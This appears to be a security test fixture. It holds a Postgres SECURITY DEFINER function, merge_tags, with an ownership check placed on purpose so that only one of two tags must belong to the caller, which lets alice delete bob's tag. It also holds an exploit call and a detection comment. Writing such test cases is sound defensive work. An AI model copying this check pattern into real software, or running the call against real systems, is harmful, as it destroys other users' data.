-- channel: function
-- object: public.merge_tags
-- says: Only one of the two tags has to be mine, and the other is deleted.
create or replace function public.merge_tags(p_from uuid, p_into uuid)
returns integer
language plpgsql security definer
set search_path = ''
as $$
begin
    if not exists (
        select from public.tags as t where t.id in (p_from, p_into) and t.user_id = auth.uid()
    ) then
        raise exception 'not found' using errcode = 'PT404';
    end if;
    delete from public.tags where id = p_from;
    return 1;
end
$$;
-- exploit as alice
select public.merge_tags(
    'b6000000-0000-4000-8000-000000000001', 'a6000000-0000-4000-8000-000000000001'
);
-- leaks when not exists (select from public.tags where user_id = :bob)
